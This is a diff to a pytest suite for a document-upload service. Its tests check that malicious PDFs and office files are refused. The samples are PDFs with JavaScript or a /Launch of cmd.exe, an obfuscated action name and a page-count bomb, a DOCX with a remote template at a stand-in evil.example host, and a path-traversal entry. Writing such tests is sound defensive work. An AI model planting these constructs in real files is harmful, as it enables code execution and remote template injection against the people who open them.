@@ -46,11 +46,20 @@ def office_file(*members: str, content: bytes = b"<x/>") -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
         for member in members:
-            archive.writestr(member, content)
+            archive.writestr(member, PARTS.get(member, content))
     return out.getvalue()
 
 
 DOCX = ("[Content_Types].xml", "_rels/.rels", "word/document.xml")
+PDF = b"%PDF-1.7 letter\n%%EOF"
+PARTS = {
+    "_rels/.rels": b'<Relationships><Relationship Type="x/officeDocument"'
+    b' Target="word/document.xml"/></Relationships>',
+    "OFD.xml": b'<o:OFD xmlns:o="http://www.ofdspec.org/2016"><o:DocBody><o:DocRoot>Doc_0/Document.xml'
+    b"</o:DocRoot></o:DocBody></o:OFD>",
+    "Doc_0/Document.xml": b'<o:Document xmlns:o="http://www.ofdspec.org/2016"><o:Pages>'
+    b'<o:Page ID="1" BaseLoc="P.xml"/></o:Pages></o:Document>',
+}
 
 
 def picture(fmt: str = "JPEG", size: tuple[int, int] = (64, 40), **more: Any) -> bytes:
@@ -68,12 +77,12 @@ def with_place(orientation: int = 6) -> bytes:
 
 
 def test_same_content_is_kept_once_and_each_handing_in_is_a_paper() -> None:
-    first = keep(b"%PDF-1.7 letter", "来信.pdf")
-    second = keep(b"%PDF-1.7 letter", "副本.pdf")
+    first = keep(PDF, "来信.pdf")
+    second = keep(PDF, "副本.pdf")
     assert first.blob_id == second.blob_id
     assert (first.name, second.name) == ("来信.pdf", "副本.pdf")
     path = shelf.place(first.blob.digest)
-    assert path.read_bytes() == b"%PDF-1.7 letter"
+    assert path.read_bytes() == PDF
     assert path.stat().st_mode & 0o077 == 0
     assert first.uploaded_by_label == "李某" and first.uploaded_by is None
 
@@ -83,7 +92,7 @@ def test_same_content_is_kept_once_and_each_handing_in_is_a_paper() -> None:
     [
         (DOCX, "答复.docx", "docx"),
         (("[Content_Types].xml", "xl/workbook.xml"), "台账.xlsx", "xlsx"),
-        (("OFD.xml", "Doc_0/Document.xml"), "公文.ofd", "ofd"),
+        (("OFD.xml", "Doc_0/Document.xml", "Doc_0/P.xml"), "公文.ofd", "ofd"),
     ],
 )
 def test_office_files_are_told_apart_by_their_members(
@@ -139,6 +148,47 @@ def test_overlapping_members_are_refused() -> None:
     refused(bytes(whole), "d.docx")
 
 
+@pytest.mark.parametrize(
+    ("inside", "words"),
+    [
+        (b"trailer<</Encrypt 5 0 R>>", "密码"),
+        (b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "脚本"),
+        (b"1 0 obj<</S/#4aavaScript>>", "脚本"),
+        (b"1 0 obj<</S/Launch/F(cmd.exe)>>", "脚本"),
+        (b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>", "内嵌文件"),
+        (
+            b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n"
+            + zlib.compress(b"<</S/JavaScript>>")
+            + b"\nendstream",
+            "脚本",
+        ),
+        (b"1 0 obj<</Type/Page>>endobj\n" * 5000, "5000页"),
+    ],
+)
+def test_a_pdf_that_does_things_or_has_no_end_is_refused(inside: bytes, words: str) -> None:
+    assert words in refused(b"%PDF-1.7\n" + inside + b"\n%%EOF", "公文.pdf")
+
+
+def test_a_pdf_cut_short_is_refused_and_a_plain_one_is_not() -> None:
+    assert "损坏" in refused(b"%PDF-1.7\n1 0 obj<</Type/Page>>", "公文.pdf")
+    picture_data = b"1 0 obj<<>>stream\n/JavaScript /Launch\nendstream\n"
+    assert keep(b"%PDF-1.7\n" + picture_data + b"%%EOF", "公文.pdf").kind == "pdf"
+
+
+def test_a_docx_that_fetches_and_an_ofd_without_pages_are_refused() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for member in DOCX:
+            archive.writestr(member, PARTS.get(member, b"<x/>"))
+        archive.writestr(
+            "word/_rels/settings.xml.rels",
+            '<Relationships><Relationship Type="x/attachedTemplate" TargetMode="External"'
+            ' Target="http://evil.example/a.dotm"/></Relationships>',
+        )
+    assert "以外的模板" in refused(out.getvalue(), "g.docx")
+    assert "缺少" in refused(office_file("OFD.xml", "Doc_0/Document.xml"), "h.ofd")
+
+
 def test_members_that_climb_out_of_the_folder_are_refused() -> None:
     assert "损坏" in refused(office_file(*DOCX, "../../etc/passwd"), "e.docx")
 
@@ -178,11 +228,11 @@ def test_text_is_kept_as_utf8() -> None:
     ],
 )
 def test_names_are_cleaned(given: str, kept: str) -> None:
-    assert keep(b"%PDF-1.7 x", given).name == kept
+    assert keep(PDF, given).name == kept
 
 
 def test_an_overlong_name_keeps_its_suffix() -> None:
-    name = keep(b"%PDF-1.7 x", "很长" * 300 + ".pdf").name
+    name = keep(PDF, "很长" * 300 + ".pdf").name
     assert len(name) == 100 and name.endswith("长.pdf")
 
 
@@ -244,7 +294,7 @@ def test_sound_is_not_for_citizens() -> None:
 
 
 def test_what_nothing_refers_to_is_cleared_after_a_day() -> None:
-    paper = keep(b"%PDF-1.7 unused", "草稿.pdf")
+    paper = keep(PDF + b" unused", "草稿.pdf")
     path = shelf.place(paper.blob.digest)
     assert clear_unused(by=system(), at=AT + dt.timedelta(hours=23)) == 0
     later = AT + dt.timedelta(days=2)
